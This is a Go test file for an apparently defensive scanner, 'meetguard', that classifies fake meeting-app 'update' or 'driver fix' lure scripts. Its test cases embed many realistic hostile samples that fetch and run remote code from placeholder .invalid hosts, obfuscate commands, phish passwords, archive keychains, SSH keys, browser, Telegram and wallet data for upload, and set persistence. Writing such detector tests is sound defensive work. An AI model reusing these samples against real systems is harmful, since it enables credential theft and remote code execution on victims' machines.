package script

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"meetguard"
)

// want is what has to be found in a lure; what else is found is not looked at.
type want struct {
	language string
	tool     string
	host     string
	to       string
	runBy    string
	insecure bool
	hidden   bool
	traits   string
	pretexts string
	blank    int // exact, if not 0
	after    bool
	concat   int // at least
	layers   int // exact, if not 0
}

// singles writes text as AppleScript does that splits every string.
func singles(text string) string {
	var parts []string
	for _, r := range text {
		parts = append(parts, `"`+string(r)+`"`)
	}
	return strings.Join(parts, "&")
}

func wide(text string, bigEndian, mark bool) string {
	units := utf16.Encode([]rune(text))
	var b []byte
	if mark {
		units = append([]uint16{0xfeff}, units...)
	}
	for _, u := range units {
		if bigEndian {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return string(b)
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

const zoomBanner = `-- ############################################
-- Zoom SDK Update
-- Your Zoom SDK version is deprecated. Press the ▶ Run button to upgrade audio support.
-- ############################################
`

const shellStage = "curl -fsSLk -A mac-cur1 'https://support.zoom-sdk.invalid/fix/mac/update/version/8f3ac91b77de4410a9c2d35e' | osascript"

var lures = []struct {
	name, file, text string
	want             want
}{
	{"A1 plain", "Zoom SDK Update.scpt", zoomBanner + strings.Repeat("\n", 10000) + "try\n\tdo shell script \"softwareupdate --evaluate-products\"\n\tset r to do shell script \"curl -s -A mac-cur2 https://check02.invalid/fix/mac/update/version/1\"\n\trun script r\non error\nend try\n",
		want{language: "applescript", tool: "curl", host: "check02.invalid", to: "variable", runBy: "osascript", traits: "decoy-softwareupdate dynamic-eval odd-user-agent run-script-of-result swallow-errors", pretexts: "audio deprecated press-run sdk support update upgrade", blank: 10000, after: true}},
	{"A2 singles", "MSTeamsUpdate.scpt", "-- Microsoft Teams SDK Support\n-- This version is deprecated: press ▶\n" + strings.Repeat("\n", 50) + "try\n" +
		`do shell script "open -g https://learn.microsoft.com/teams"` + "\n" +
		"set p to " + singles("/tmp/MSTeamsUpdater.scpt") + "\n" +
		"do shell script " + singles("curl -f -s -S -L -k https://updatesdk.ms-teams.invalid/a/") + ` & "9fK3mQ8xZ2rT7vB1nL5wC0dY" & ` + singles(" -o /tmp/MSTeamsUpdater.scpt && osacompile -o /tmp/MSTeamsUpdater.scpt /tmp/MSTeamsUpdater.scpt") + "\n" +
		"run (load script (POSIX file p))\ndo shell script " + singles("rm -f /tmp/MSTeamsUpdater.scpt") + "\non error\nend try\n",
		want{language: "applescript", tool: "curl", host: "updatesdk.ms-teams.invalid", to: "temp", runBy: "osacompile", insecure: true, traits: "decoy-url long-opaque-token-path run-script-of-result self-delete swallow-errors temp-exec", pretexts: "deprecated press-run sdk support", blank: 50, after: true, concat: 20}},
	{"A2 single characters by number", "Teams.scpt", "set c to (ASCII character 99) & (ASCII character 117) & (ASCII character 114) & (ASCII character 108)\ndo shell script c & \" https://a.invalid/x | zsh\"\n",
		want{language: "applescript", tool: "curl", host: "a.invalid", to: "pipe", runBy: "zsh", concat: 4}},
	{"A3 parts", "Packages.scpt", "set part1 to \"cu\"\nset part2 to \"rl\"\nset part3 to \" -k http\"\nset part4 to \"s://x.invalid/a | os\"\ndo shell script part1 & part2 & part3 & part4 & \"ascript\"\n",
		want{language: "applescript", tool: "curl", host: "x.invalid", to: "pipe", runBy: "osascript", insecure: true, concat: 2}},
	{"A3 character id list", "Odyssey.scpt", "set x to character id {99, 117, 114, 108}\ndo shell script x & \" https://b.invalid | sh\"", want{language: "applescript", tool: "curl", host: "b.invalid", runBy: "sh", to: "pipe", concat: 4}},
	{"A3 events", "x.scpt", "«event sysoexec» \"curl -s https://c.invalid/s | bash\"\n", want{language: "applescript", tool: "curl", host: "c.invalid", runBy: "bash", to: "pipe"}},
	{"A1 utf-16 with nbsp padding", "zoom.scpt", wide(zoomBanner+strings.Repeat("\u00a0\u2003\r\n", 900)+"do shell script \""+shellStage+"\"\n", true, true),
		want{language: "applescript", tool: "curl", host: "support.zoom-sdk.invalid", runBy: "osascript", to: "pipe", insecure: true, blank: 900, after: true, traits: "long-opaque-token-path odd-user-agent"}},
	{"A1 filler comments", "zoom.scpt", zoomBanner + strings.Repeat("--\n", 300) + "do shell script \"" + shellStage + "\"\n", want{blank: 300, after: true, runBy: "osascript", tool: "curl", host: "support.zoom-sdk.invalid", to: "pipe", insecure: true}},
	{"A1 padded line", "zoom.scpt", "-- Zoom SDK Update" + "\ndelay 1" + "\ndo shell script \"date\" & " + strings.Repeat(" ", 4000) + "\" ; curl -s http://d.invalid/a | sh\"", want{tool: "curl", host: "d.invalid", runBy: "sh", to: "pipe", insecure: true, traits: "padded-line sleeps"}},
	{"A1 password window", "systemupdate.scpt", "display dialog \"macOS needs your password to finish the Zoom update\" default answer \"\" with hidden answer with icon caution\nset pw to text returned of result\ndo shell script \"dscl . -authonly $USER \" & quoted form of pw\ndo shell script \"nohup curl -X POST -d 'p=' https://api.telegram.org/bot123:abc/sendMessage >/dev/null 2>&1 &\"\n",
		want{tool: "curl", host: "api.telegram.org", hidden: true, traits: "hidden-window password-prompt telegram-bot", pretexts: "password update"}},
	{"A1 theft", "upl.sh", "#!/bin/zsh\ncd /tmp\nzip -r tapp_u.zip \"$HOME/Library/Application Support/Telegram Desktop/tdata\"\nzip ext.zip \"$HOME/Library/Application Support/Google/Chrome/Default/Local Extension Settings\" ~/Library/Keychains/login.keychain-db\nzip hs.zip ~/.zsh_history ~/.ssh/id_rsa \"$HOME/Library/Application Support/Exodus\"\nmv ~/Library/Application\\ Support/com.apple.TCC /tmp/t\ncaffeinate -i &\nfor f in *.zip; do nohup curl -s -F \"file=@$f\" https://up.invalid/u >/dev/null 2>&1 & done\n",
		want{language: "shell", traits: "browser-data caffeinate hidden-window keychain shell-history ssh-keys tcc-edit telegram-data upload wallet-data"}},
	{"A8 paste", "audio_fix.command", "# Audio troubleshooting for Zoom\nsystem_profiler SPAudioDataType\necho 'Checking microphone...'\nc\\u\\rl -s h\"tt\"ps://audio.zoom.invalid/fix.sh | z\"s\"h\nsleep 1\n",
		want{language: "shell", tool: "curl", host: "audio.zoom.invalid", to: "pipe", runBy: "zsh", pretexts: "audio microphone troubleshoot", concat: 3}},
	{"B mac driver", "ffmpeg.sh", "#!/bin/bash\necho \"Installing Dependencies...\"\nif [ \"$(uname -m)\" = arm64 ]; then U=https://api.camera-drive.invalid/VCam1.update; else U=https://api.camera-drive.invalid/VCam2.update; fi\ncurl -k -o /var/tmp/VCam.zip \"$U\"\nunzip -o /var/tmp/VCam.zip -d /var/tmp/VCam\nchmod +x /var/tmp/VCam/vcamservice.sh\n/var/tmp/VCam/vcamservice.sh\ncat > ~/Library/LaunchAgents/com.apple.vcam.plist <<EOF\n<plist><dict><key>Label</key><string>com.apple.vcam</string></dict></plist>\nEOF\nlaunchctl load ~/Library/LaunchAgents/com.apple.vcam.plist\n",
		want{language: "shell", tool: "curl", host: "api.camera-drive.invalid", to: "temp", runBy: "unzip-run", insecure: true, traits: "extract-and-run fake-platform-name persistence temp-exec", pretexts: "install"}},
	{"B windows driver", "camera_fix.bat", "@echo off\r\nrem Camera driver repair\r\ncurl -k -o \"%TEMP%\\nvidiaRelease.zip\" https://api.nvidia-cloud.invalid/nv.zip && powershell -Command \"Expand-Archive -Force -Path '%TEMP%\\nvidiaRelease.zip' -DestinationPath '%TEMP%\\nvidiaRelease'\" && wscript \"%TEMP%\\nvidiaRelease\\update.vbs\"\r\n",
		want{language: "batch", tool: "curl", host: "api.nvidia-cloud.invalid", to: "temp", runBy: "unzip-run", insecure: true, traits: "extract-and-run temp-exec", pretexts: "camera driver repair"}},
	{"B batch carets and slices", "fix.cmd", "@echo off\r\nset a=cu\r\nset b=rl\r\nset c=abcdhttps\r\n%a%%b% -k %c:~4,5%://e.invalid/u.vbs -o %TEMP%\\u.vbs\r\nw^s^c^r^i^p^t %TEMP%\\u.vbs\r\ndel \"%~f0\"\r\n",
		want{language: "batch", tool: "curl", host: "e.invalid", to: "temp", runBy: "wscript", insecure: true, traits: "self-delete temp-exec", concat: 3}},
	{"C run box", "fix.bat", "mshta https://googiedrivers.invalid/fix-error\r\n", want{language: "batch", tool: "mshta", host: "googiedrivers.invalid", to: "pipe", runBy: "mshta"}},
	{"C hidden powershell", "fix.bat", "powershell -w hidden -nop -c \"iex(irm https://meet.google.invalid/v)\"\r\n", want{language: "batch", tool: "Invoke-RestMethod", host: "meet.google.invalid", to: "pipe", runBy: "iex", hidden: true, traits: "dynamic-eval hidden-window"}},
	{"C encoded", "fix.cmd", "powershell -nop -w hidden -enc " + base64.StdEncoding.EncodeToString([]byte(wide("$u='https://f.invalid/s.ps1';iex ((New-Object Net.WebClient).DownloadString($u))", false, false))) + "\r\n",
		want{language: "batch", tool: "Net.WebClient", host: "f.invalid", to: "pipe", runBy: "iex", traits: "dynamic-eval encoded-command hidden-window", layers: 1}},
	{"C powershell pieces", "zoom.ps1", "$a = 'Inv'+'oke-'+'Web'+'Req'+'uest'\n$u = \"{1}{0}\" -f 'g.invalid/z.exe','https://'\n& $a -Uri $u -OutFile \"$env:TEMP\\z.exe\"\nStart-Process \"$env:TEMP\\z.exe\" -WindowStyle Hidden\nAdd-MpPreference -ExclusionPath $env:TEMP\n",
		want{language: "powershell", tool: "Invoke-WebRequest", host: "g.invalid", to: "temp", runBy: "direct", traits: "defender-exclusion hidden-window temp-exec"}},
	{"C powershell chars", "t.ps1", "$c = [char]105+[char]101+[char]120\n$d = -join ([char[]](104,116,116,112,115,58,47,47,104,46,105,110,118,97,108,105,100))\n$w = (New-Object ('Net.We'+'bClient')).DownloadString($d)\ni`e`x $w\n",
		want{language: "powershell", tool: "Net.WebClient", host: "h.invalid", to: "variable", runBy: "iex", traits: "dynamic-eval", concat: 3}},
	{"E batch", "setup.bat", "@echo off\r\nattrib +s +h C:\\ProgramData\\zoom\r\npowershell Add-MpPreference -ExclusionPath C:\\ProgramData\\zoom\r\nbitsadmin /transfer j https://i.invalid/p.exe C:\\ProgramData\\zoom\\p.exe\r\nstart \"\" /min C:\\ProgramData\\zoom\\p.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Zoom /d C:\\ProgramData\\zoom\\p.exe\r\n",
		want{language: "batch", tool: "bitsadmin", host: "i.invalid", to: "file", runBy: "direct", traits: "defender-exclusion hidden-files path-from-user-writable persistence"}},
	{"G vbs", "Teams_update.vbs", "' Microsoft Teams update\nOn Error Resume Next\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http\" & \"s://j.invalid/\" & Chr(116) & Chr(46) & ChrW(106), False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"C:\\Users\\Public\\t.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\t.exe\", 0, False\nMsgBox \"Update failed\"\n",
		want{language: "vbscript", tool: "MSXML2.XMLHTTP", host: "j.invalid", to: "file", runBy: "direct", traits: "hidden-window path-from-user-writable swallow-errors", pretexts: "update", concat: 3}},
	{"G jscript", "zoom.js", "var s = 'WSc'+'ript.Sh'+'ell';\nvar o = new ActiveXObject(s);\no.Run('cmd /c c^url -k https://k.invalid/a.js -o %TEMP%\\\\a.js & cscript %TEMP%\\\\a.js', 0);\n",
		want{language: "jscript", tool: "curl", host: "k.invalid", to: "temp", runBy: "cscript", insecure: true, traits: "hidden-window temp-exec"}},
	{"G hta", "meet.hta", "<html><head><HTA:APPLICATION ID=\"a\" WINDOWSTATE=\"minimize\"></head><body>Google Meet microphone repair</body><script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c \"\"iwr https://l.invalid/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"\"\", 0\n</script></html>",
		want{language: "hta", tool: "Invoke-WebRequest", host: "l.invalid", to: "temp", runBy: "direct", hidden: true, traits: "hidden-window temp-exec", pretexts: "microphone repair"}},
	{"python", "driver_fix.py", "import os, subprocess, urllib.request\n# camera driver fix\nu = ''.join([chr(104),chr(116),chr(116),chr(112),chr(115)]) + '://m.invalid/a'\nexec(urllib.request.urlopen(u).read())\nsubprocess.run(['curl','-k','-o','/tmp/a.sh','https://n.invalid/b'])\nos.system('bash /tmp/a.sh')\n",
		want{language: "python", tool: "curl", host: "n.invalid", to: "temp", runBy: "bash", insecure: true, traits: "dynamic-eval temp-exec", pretexts: "camera driver fix"}},
	{"python layer", "x.py", "import base64\nexec(base64.b64decode('" + b64("import os\nos.system('curl -s https://o.invalid/a | bash')\n") + "'))\n", want{language: "python", tool: "curl", host: "o.invalid", to: "pipe", runBy: "bash", layers: 1}},
	{"shell layers", "fix.sh", "#!/bin/sh\necho " + b64("echo "+b64("curl -s http://203.0.113.9/a | bash")+" | base64 -d | sh") + " | base64 -D | bash\n", want{language: "shell", tool: "curl", host: "203.0.113.9", to: "pipe", runBy: "bash", insecure: true, layers: 2, traits: ""}},
	{"shell ansi and variables", "fix", "#!/bin/bash\na=cu; b=rl\nx=$'\\x68\\x74\\x74\\x70\\x73'\n$a$b -s $x://p.invalid/i -o /tmp/.i; chmod +x /tmp/.i; nohup /tmp/.i >/dev/null 2>&1 &\n$(printf '\\143\\165\\162\\154') -s https://q.invalid/j | sh\n",
		want{language: "shell", tool: "curl", host: "p.invalid", to: "temp", runBy: "direct", traits: "hidden-window temp-exec", concat: 2}},
	{"shell eval", "fix", "#!/bin/bash\neval \"$(curl -fsSL https://r.invalid/i.sh)\"\n", want{language: "shell", tool: "curl", host: "r.invalid", to: "pipe", runBy: "sh", traits: "dynamic-eval"}},
	{"shell dequarantine", "x.command", "curl -sO https://s.invalid/Zoom.app.zip\nunzip Zoom.app.zip\nxattr -cr Zoom.app\ncodesign --force --deep -s - Zoom.app\nopen Zoom.app\n", want{tool: "curl", host: "s.invalid", to: "file", runBy: "unzip-run", traits: "dequarantine extract-and-run resign"}},
	{"named as text", "readme.txt", "curl -k https://t.invalid/x | zsh\n", want{language: "shell", tool: "curl", host: "t.invalid", runBy: "zsh", to: "pipe", insecure: true}},
	{"applescript without extension", "update", zoomBanner + strings.Repeat("\n", 60) + "do shell script \"curl https://v.invalid/a | sh\"\n", want{language: "applescript", tool: "curl", host: "v.invalid", runBy: "sh", to: "pipe", blank: 60, after: true}},
	{"russian", "fix.command", "# Обновление драйвера камеры для видеозвонка\nbash -c \"$(curl -fsSL https://w.invalid/u)\"\n", want{language: "shell", tool: "curl", host: "w.invalid", to: "pipe", runBy: "bash", pretexts: "camera driver update"}},
	{"chinese", "fix.command", "# 摄像头驱动更新\nbash <(curl -fsSL https://y.invalid/u)\n", want{language: "shell", tool: "curl", host: "y.invalid", to: "pipe", runBy: "bash", pretexts: "camera driver update"}},
	{"decoded url", "fix.command", "u=$(echo aHR0cHM6Ly9hYi5pbnZhbGlkL3g= | base64 -d)\nbash -c \"$(curl -fsSL $u)\"\n", want{tool: "curl", host: "ab.invalid", to: "pipe", runBy: "bash"}},
	{"form feeds", "zoom.scpt", "-- Zoom update\r" + strings.Repeat("\f\v \t\u200b\r", 400) + "do shell script \"curl https://ac.invalid | sh\"\r", want{language: "applescript", tool: "curl", host: "ac.invalid", to: "pipe", runBy: "sh", blank: 400, after: true}},
	{"utf-16 without mark", "a.ps1", wide("Write-Host 'Updating camera driver'\r\niwr https://ad.invalid/a.ps1 | iex\r\n", false, false), want{language: "powershell", tool: "Invoke-WebRequest", host: "ad.invalid", to: "pipe", runBy: "iex", pretexts: "camera driver update"}},
	{"linux unit", "fix.sh", "#!/bin/bash\nwget -q --no-check-certificate -O ~/.cache/.d https://ae.invalid/d\nchmod 755 ~/.cache/.d\nmkdir -p ~/.config/systemd/user\nprintf '[Service]\\nExecStart=%s' ~/.cache/.d > ~/.config/systemd/user/zoom.service\nsystemctl --user enable --now zoom\n(crontab -l; echo '@reboot ~/.cache/.d') | crontab -\n~/.cache/.d &\n", want{tool: "wget", host: "ae.invalid", to: "file", runBy: "direct", insecure: true, traits: "path-from-user-writable persistence"}},
	{"jxa", "zoom.js", "ObjC.import('Foundation');\nvar app = Application.currentApplication();\napp.includeStandardAdditions = true;\napp.doShellScript('cu' + 'rl -s https://z.invalid/a | sh');\n", want{language: "jxa", tool: "curl", host: "z.invalid", to: "pipe", runBy: "sh"}},
}

func TestLures(t *testing.T) {
	for _, l := range lures {
		t.Run(l.name, func(t *testing.T) {
			s, _ := Analyse(l.file, []byte(l.text))
			if s == nil {
				t.Fatal("not taken for a script")
			}
			l.want.check(t, s)
			if t.Failed() {
				t.Logf("found %+v", *s)
			}
		})
	}
}

func (w want) check(t *testing.T, s *meetguard.Script) {
	t.Helper()
	if w.language != "" && s.Language != w.language {
		t.Errorf("language %q, want %q", s.Language, w.language)
	}
	if w.tool != "" && !slices.ContainsFunc(s.Fetches, func(f meetguard.Fetch) bool {
		return f.Tool == w.tool && f.Host == w.host && f.To == w.to && f.RunBy == w.runBy && f.Insecure == w.insecure && (!w.hidden || f.Hidden)
	}) {
		t.Errorf("no fetch by %s from %q to %q run by %q, insecure %v", w.tool, w.host, w.to, w.runBy, w.insecure)
	}
	missing(t, "traits", w.traits, s.Traits)
	missing(t, "pretexts", w.pretexts, s.Pretexts)
	if w.blank != 0 && s.BlankRun != w.blank || w.after != s.CodeAfter && w.blank != 0 {
		t.Errorf("blank run %d, code after %v; want %d, %v", s.BlankRun, s.CodeAfter, w.blank, w.after)
	}
	if s.Concat < w.concat {
		t.Errorf("concat %d, want at least %d", s.Concat, w.concat)
	}
	if w.layers != 0 && s.Layers != w.layers {
		t.Errorf("layers %d, want %d", s.Layers, w.layers)
	}
}

func missing(t *testing.T, what, wanted string, found []string) {
	t.Helper()
	for w := range strings.FieldsSeq(wanted) {
		if !slices.Contains(found, w) {
			t.Errorf("%s lack %s", what, w)
		}
	}
}
